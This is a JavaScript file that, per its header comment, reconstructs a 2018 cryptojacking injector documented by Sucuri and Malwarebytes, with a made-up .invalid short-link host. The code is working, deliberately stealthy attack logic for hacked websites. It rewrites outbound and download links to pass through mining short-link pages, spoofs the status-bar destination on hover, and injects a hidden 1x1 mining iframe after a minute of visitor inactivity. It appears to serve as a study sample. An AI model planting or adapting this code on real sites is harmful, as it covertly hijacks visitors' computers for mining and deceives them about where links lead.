// cnhv-shortlink (variant b), written from Sucuri's "An Old Trick with a New Twist:
// Cryptomining Through Disguised URL Shorteners" (2018) and Malwarebytes Labs' report on the
// same abuse of Coinhive's short links: instead of (or besides) a hidden frame, the script
// rewrites the hacked site's outbound and download links so that each click goes through a
// Coinhive short link, whose page mines ("Verifying your browser...") before it forwards to
// the real target; a hidden 1x1 frame on a short link also starts after the visitor has been
// idle for a while. Short-link host and IDs made up (.invalid).
(function () {
  var SH = ["https://", "cnhv", "-short", ".inv", "alid/"].join("");
  var map = {
    "download": "p0kd7w",
    "mega.": "u7nz2c",
    "drive.": "u7nz2c",
    "default": "r4jtq8"
  };
  function pick(href) {
    for (var k in map) if (k !== "default" && href.indexOf(k) > -1) return map[k];
    return map["default"];
  }
  function rewrite() {
    var a = document.getElementsByTagName("a");
    for (var i = 0; i < a.length; i++) {
      var h = a[i].href;
      if (!h || a[i].getAttribute("data-o") || h.indexOf(location.hostname) > -1 || h.indexOf("javascript:") === 0) continue;
      a[i].setAttribute("data-o", h);
      a[i].href = SH + pick(h) + "?u=" + encodeURIComponent(h);
      a[i].onmouseover = function () { window.status = this.getAttribute("data-o"); };
    }
  }
  var idle = null;
  function miner() {
    if (document.hidden || document.getElementById("_ch1")) return;
    var f = document.createElement("iframe");
    f.id = "_ch1";
    f.src = SH + map["default"] + "?u=" + encodeURIComponent(location.href);
    f.setAttribute("style", "width:1px;height:1px;border:0;position:fixed;bottom:0;right:0;visibility:hidden");
    document.body.appendChild(f);
  }
  function reset() { clearTimeout(idle); idle = setTimeout(miner, 60000); }
  ["mousemove", "keydown", "scroll", "touchstart"].forEach(function (e) { document.addEventListener(e, reset, { passive: true }); });
  document.addEventListener("DOMContentLoaded", function () { rewrite(); reset(); });
  new MutationObserver(rewrite).observe(document.documentElement, { childList: true, subtree: true });
})();
